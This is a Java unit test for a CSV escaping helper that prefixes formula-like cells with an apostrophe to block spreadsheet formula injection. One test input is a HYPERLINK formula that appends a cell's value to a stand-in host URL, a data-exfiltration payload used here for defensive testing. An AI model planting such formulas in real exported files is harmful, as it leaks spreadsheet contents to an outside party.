package org.seisaku.encode;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

class CsvCellsTest {
  @Test
  void cellsASpreadsheetWouldEvaluateGetAnApostrophe() {
    // issue 9, failure 10: a program name starting with =HYPERLINK( was written as is
    assertEquals("'=HYPERLINK(\"http://x/?\"&A1,\"x\")", CsvCells.text("=HYPERLINK(\"http://x/?\"&A1,\"x\")"));
    assertEquals("'@SUM(1+1)", CsvCells.text("@SUM(1+1)"));
    assertEquals("'+1", CsvCells.text("+1"));
    assertEquals("'-3億円", CsvCells.text("-3億円"));
    assertEquals("'\t=1", CsvCells.text("\t=1"));
    assertEquals("'\r=1", CsvCells.text("\r=1"));
    assertEquals("'＝1+1", CsvCells.text("＝1+1"));
  }

  @Test
  void otherCellsAreUnchanged() {
    assertEquals("地域おこし協力隊", CsvCells.text("地域おこし協力隊"));
    assertEquals("3.7億円", CsvCells.text("3.7億円"));
    assertEquals("a=b", CsvCells.text("a=b"));
    assertEquals("", CsvCells.text(""));
    assertEquals("", CsvCells.text(null));
  }
}
